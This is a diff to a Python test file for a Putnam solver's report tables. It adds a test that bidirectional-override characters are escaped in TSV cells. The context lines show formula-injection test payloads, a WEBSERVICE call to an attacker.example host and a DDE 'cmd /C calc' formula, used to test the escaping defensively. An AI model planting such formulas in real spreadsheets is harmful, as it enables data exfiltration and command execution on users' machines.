@@ -32,6 +32,7 @@ from pathlib import Path
 import pytest
 
 from putnam_solver.core.provers.rocq._lexer import tokenize
+from putnam_solver.run.report.tables import tsv_cell
 from tests.helpers import ROCQ_SAMPLES, SANDBOX_AVAILABLE, add_subattempt
 from tests.processes import putnam
 
@@ -187,6 +188,11 @@ FORMULAS = {
     "sub-attempt status": '+WEBSERVICE("https://attacker.example/")',
     "campaign parent": "@SUM(1+1)*cmd|' /C calc'!A0",
 }
+
+
+def test_a_cell_shows_a_bidirectional_override_as_its_escape_and_keeps_honest_text() -> None:
+    assert tsv_cell("zz\u202edetcejer\u2066") == "zz\\u202edetcejer\\u2066"
+    assert tsv_cell("putnam_1962_a2 déjà ∀ x") == "putnam_1962_a2 déjà ∀ x" and tsv_cell(3) == "3"
 
 
 @pytest.fixture(scope="module")
